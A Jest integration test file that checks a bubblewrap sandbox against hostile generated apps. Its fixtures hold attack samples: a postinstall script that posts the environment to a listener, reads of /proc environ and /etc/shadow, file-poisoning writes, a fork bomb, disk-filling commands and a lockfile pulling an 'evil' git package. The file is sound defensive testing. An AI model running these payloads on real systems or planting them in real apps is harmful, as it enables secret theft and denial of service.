/**
 * Generated apps that attack the worker, validated for real in the bubblewrap sandbox: every
 * attempt fails or is cut off, the report names the step, and no secret reaches the output.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createBwrapSandbox } from '../../src/agents/sandbox/bwrap-sandbox.js';
import { validateApp, type AppValidationReport } from '../../src/agents/validation/validate-app.js';
import { createSecretRedactor } from '../../src/core/secrets/secret-redactor.js';
import type { SandboxLimits } from '../../src/core/ports/sandbox.js';
import {
  fakeSecrets,
  SANDBOX_TEST_ROOT,
  startListener,
  TEST_LIMITS,
  writeApp,
} from '../helpers/sandbox-fixtures.js';
import { REPO_ROOT } from '../helpers/test-env.js';

const root = path.join(SANDBOX_TEST_ROOT, `attacks-${process.pid}`);
const cacheDir = path.join(root, 'deps');
const appsDir = path.join(root, 'apps');
const secrets = fakeSecrets();
const secretValues = [
  secrets.OPENAI_API_KEY,
  secrets.SLACK_BOT_TOKEN,
  secrets.DATABASE_PASSWORD,
  // One line of the key's body: enough to prove the key leaked.
  secrets.GITHUB_PRIVATE_KEY.split('\n')[5] as string,
];
const savedEnv = { ...process.env };
let listener: Awaited<ReturnType<typeof startListener>>;

beforeAll(async () => {
  await mkdir(appsDir, { recursive: true });
  listener = await startListener();
  // The worker's own environment, as a real one holds it: the sandbox must not pass any of it on.
  Object.assign(process.env, {
    OPENAI_API_KEY: secrets.OPENAI_API_KEY,
    SLACK_BOT_TOKEN: secrets.SLACK_BOT_TOKEN,
    GITHUB_PRIVATE_KEY: secrets.GITHUB_PRIVATE_KEY,
    DATABASE_URL: `postgresql://postgres:${secrets.DATABASE_PASSWORD}@127.0.0.1:5432/autonoma`,
  });
});

afterAll(async () => {
  process.env = savedEnv;
  await listener.close();
  await rm(root, { recursive: true, force: true });
});

async function validate(
  spec: Parameters<typeof writeApp>[1],
  options: { timeoutMs?: number; limits?: Partial<SandboxLimits> } = {},
): Promise<{ report: AppValidationReport; dir: string; output: string; ms: number }> {
  const dir = await writeApp(appsDir, spec);
  const sandbox = createBwrapSandbox({ limits: { ...TEST_LIMITS, ...options.limits }, diskCheckMs: 250 });
  const started = Date.now();
  const report = await validateApp({
    dir,
    cacheDir,
    sandbox,
    timeoutMs: options.timeoutMs ?? 30_000,
  });
  const output = (['install', 'lint', 'typecheck', 'test', 'build'] as const)
    .map((s) => report[s]?.output ?? '')
    .join('\n');
  return { report, dir, output, ms: Date.now() - started };
}

function expectNoSecret(text: string): void {
  for (const value of secretValues) expect(text).not.toContain(value);
}

describe('a generated app attacking the worker from the bubblewrap sandbox', () => {
  it('cannot send the environment anywhere from a postinstall script', async () => {
    const { report, output } = await validate({
      scripts: { postinstall: 'node exfiltrate.cjs' },
      files: {
        'exfiltrate.cjs': `
          console.log('env keys: ' + Object.keys(process.env).sort().join(','));
          fetch('http://127.0.0.1:${listener.port}/steal', { method: 'POST', body: JSON.stringify(process.env) })
            .then(() => console.log('SENT'))
            .catch((e) => { console.log('blocked: ' + (e.cause?.code ?? e.message)); process.exit(1); });
        `,
      },
    });
    expect(report.install?.ok).toBe(false);
    expect(output).toContain('The app\'s own "postinstall" script failed');
    expect(output).toMatch(/blocked: (ECONNREFUSED|ENETUNREACH)/);
    expect(output).not.toContain('SENT');
    const keys = /env keys: (.*)/.exec(output)?.[1]?.split(',') ?? [];
    expect(keys).not.toEqual([]);
    for (const key of ['OPENAI_API_KEY', 'SLACK_BOT_TOKEN', 'GITHUB_PRIVATE_KEY', 'DATABASE_URL'])
      expect(keys).not.toContain(key);
    expect(listener.hits).toEqual([]);
    expectNoSecret(output);
  }, 60_000);

  it('finds no secret in /proc/1/environ or any process it can see', async () => {
    const { report, output } = await validate({
      scripts: { test: 'node snoop.cjs' },
      files: {
        'snoop.cjs': `
          const fs = require('fs');
          for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
            try { console.log(pid + ': ' + fs.readFileSync('/proc/' + pid + '/environ', 'utf8').replace(/\\0/g, ' ')); }
            catch (e) { console.log(pid + ': ' + e.code); }
          }
          for (const f of ['/etc/shadow', '/etc/passwd', '/root/.bash_history', '${path.join(REPO_ROOT, 'package.json')}']) {
            try { fs.readFileSync(f); console.log('READ ' + f); } catch (e) { console.log('denied ' + f + ' ' + e.code); }
          }
        `,
      },
    });
    expect(report.test?.ok).toBe(true);
    expect(output).toMatch(/^1: .*PATH=/m); // it did read pid 1's environment: there is nothing in it
    expect(output).not.toMatch(/^READ /m);
    expectNoSecret(output);
  }, 60_000);

  it('cannot reach Redis, Postgres, the host or the internet', async () => {
    const { report, output } = await validate({
      scripts: { test: 'node connect.cjs' },
      files: {
        'connect.cjs': `
          const net = require('net');
          const targets = [[6379, '127.0.0.1'], [5432, '127.0.0.1'], [${listener.port}, '127.0.0.1'], [443, '104.16.0.35']];
          let left = targets.length;
          for (const [port, host] of targets) {
            const socket = net.connect({ port, host, timeout: 3000 });
            const done = (what) => { console.log(what + ' ' + host + ':' + port); socket.destroy(); if (--left === 0) process.exit(0); };
            socket.on('connect', () => done('CONNECTED'));
            socket.on('timeout', () => done('blocked(timeout)'));
            socket.on('error', (e) => done('blocked(' + e.code + ')'));
          }
        `,
      },
    });
    expect(report.test?.ok).toBe(true);
    expect(output).not.toContain('CONNECTED');
    expect(output.match(/blocked\(/g)).toHaveLength(4);
    expect(listener.hits).toEqual([]);
  }, 60_000);

  it('cannot write outside its own copy: not another job, the dependency cache or Autonoma', async () => {
    const otherJob = path.join(appsDir, 'other-job');
    await mkdir(otherJob, { recursive: true });
    await writeFile(path.join(otherJob, 'index.ts'), 'export const untouched = true;\n');
    const targets = [
      path.join(otherJob, 'index.ts'),
      path.join(cacheDir, 'poisoned.txt'),
      path.join(REPO_ROOT, 'package.json'),
      '/usr/lib/poisoned.txt',
      '/etc/poisoned.txt',
    ];
    const { report, output, dir } = await validate({
      withDependency: true,
      scripts: { test: 'node write.cjs' },
      files: {
        'write.cjs': `
          const fs = require('fs');
          const targets = ${JSON.stringify(targets)};
          targets.push('node_modules/is-number/index.js');
          for (const t of targets) {
            try { fs.appendFileSync(t, '\\nmodule.exports = "pwned";\\n'); console.log('WROTE ' + t); }
            catch (e) { console.log('denied ' + t + ' ' + e.code); }
          }
          // Its own node_modules stays usable: a tool may add caches there.
          fs.mkdirSync('node_modules/.vite', { recursive: true });
          fs.writeFileSync('node_modules/.vite/cache.json', '{}');
          console.log('own cache ok');
        `,
      },
    });
    expect(report.install?.ok).toBe(true);
    expect(report.test?.ok).toBe(true);
    expect(output).not.toContain('WROTE');
    expect(output.match(/^denied /gm)).toHaveLength(targets.length + 1);
    expect(output).toContain('own cache ok');
    expect(readFileSync(path.join(otherJob, 'index.ts'), 'utf8')).toBe('export const untouched = true;\n');
    expect(existsSync(path.join(cacheDir, 'poisoned.txt'))).toBe(false);
    expect(readFileSync(path.join(REPO_ROOT, 'package.json'), 'utf8')).not.toContain('pwned');
    // The shared dependency set is unchanged, and still the worker's.
    const entry = path.join(
      cacheDir,
      report.dependencies?.key ?? '',
      'node_modules',
      'is-number',
      'index.js',
    );
    expect(readFileSync(entry, 'utf8')).not.toContain('pwned');
    expect(statSync(entry).uid).toBe(process.getuid?.());
    expect(statSync(path.join(dir, 'node_modules', 'is-number', 'index.js')).ino).toBe(statSync(entry).ino);
  }, 120_000);

  it('ends the step on time even when it leaves setsid and nohup children behind', async () => {
    const { report, ms } = await validate({
      scripts: { test: 'setsid sleep 617 & nohup sleep 618 >/dev/null 2>&1 & echo detached' },
    });
    expect(report.test?.ok).toBe(true);
    expect(ms).toBeLessThan(15_000);
    expect(processesMatching(/sleep 61[78]/)).toEqual([]);
  }, 60_000);

  it('cuts off a fork bomb at the step limit and leaves no process behind', async () => {
    const { report, ms } = await validate(
      { scripts: { test: "bash -c ':(){ :|:& };:'; sleep 60" } },
      { timeoutMs: 6000, limits: { processes: 64 } },
    );
    expect(report.test?.ok).toBe(false);
    expect(report.test?.output).toMatch(/Timed out after 6 s/);
    expect(ms).toBeLessThan(30_000);
    await waitFor(() => processesMatching(/^bash -c :\(\)/).length === 0);
    expect(processesMatching(/^bash -c :\(\)/)).toEqual([]);
  }, 60_000);

  it('stops a 2 GB file at the file size limit', async () => {
    const { report, dir } = await validate({
      scripts: { test: 'head -c 2G /dev/zero > big.bin' },
    });
    expect(report.test?.ok).toBe(false);
    expect(report.test?.output).toMatch(/file size limit/);
    expect(statSync(path.join(dir, 'big.bin')).size).toBeLessThanOrEqual(TEST_LIMITS.fileSizeBytes);
  }, 60_000);

  it('stops a command that fills the disk with many smaller files', async () => {
    const { report } = await validate({
      scripts: { test: 'for i in $(seq 1 40); do head -c 32M /dev/urandom > part-$i.bin; done; sleep 30' },
    });
    expect(report.test?.ok).toBe(false);
    expect(report.test?.output).toMatch(/wrote more than 128 MiB to disk/);
  }, 60_000);

  it('kills an endless loop at the step timeout and names the step', async () => {
    const { report, ms } = await validate({ scripts: { build: 'node -e "for(;;){}"' } }, { timeoutMs: 3000 });
    expect(report.ok).toBe(false);
    expect(report.test?.ok).toBe(true);
    expect(report.build?.ok).toBe(false);
    expect(report.build?.output).toMatch(/Timed out after 3 s; the process tree was killed/);
    expect(ms).toBeLessThan(20_000);
  }, 60_000);

  it('refuses a lockfile that installs from a git or tarball URL before running anything', async () => {
    const dir = await writeApp(appsDir, { scripts: { postinstall: 'node -e "process.exit(7)"' } });
    const lock = JSON.parse(await readFile(path.join(dir, 'package-lock.json'), 'utf8'));
    lock.packages[''].dependencies = { evil: 'git+https://example.com/evil.git' };
    lock.packages['node_modules/evil'] = {
      version: '1.0.0',
      resolved: `http://127.0.0.1:${listener.port}/evil.tgz`,
    };
    await writeFile(path.join(dir, 'package-lock.json'), JSON.stringify(lock));
    const manifest = JSON.parse(await readFile(path.join(dir, 'package.json'), 'utf8'));
    manifest.dependencies = { evil: 'git+https://example.com/evil.git' };
    await writeFile(path.join(dir, 'package.json'), JSON.stringify(manifest));
    const report = await validateApp({
      dir,
      cacheDir,
      sandbox: createBwrapSandbox({ limits: TEST_LIMITS }),
      timeoutMs: 30_000,
    });
    expect(report.install?.ok).toBe(false);
    expect(report.install?.output).toContain('Dependencies refused before install');
    expect(report.install?.output).toMatch(/"evil".*git/);
    expect(listener.hits).toEqual([]);
  }, 60_000);

  it('redacts a configured secret that reaches the output anyway', async () => {
    const redactor = createSecretRedactor([secrets.OPENAI_API_KEY]);
    const dir = await writeApp(appsDir, {
      scripts: { test: `node -e "console.log(Buffer.from('${secrets.OPENAI_API_KEY}').toString('base64'))"` },
    });
    const report = await validateApp({
      dir,
      cacheDir,
      sandbox: createBwrapSandbox({ limits: TEST_LIMITS }),
      timeoutMs: 30_000,
      redact: (text) => redactor.redact(text),
    });
    expect(report.test?.output).toContain('[REDACTED]');
    expect(report.test?.output).not.toContain(Buffer.from(secrets.OPENAI_API_KEY).toString('base64'));
  }, 60_000);
});

function processesMatching(pattern: RegExp): string[] {
  return execFileSync('ps', ['-eo', 'args='], { encoding: 'utf8' })
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => pattern.test(line));
}

async function waitFor(condition: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
}
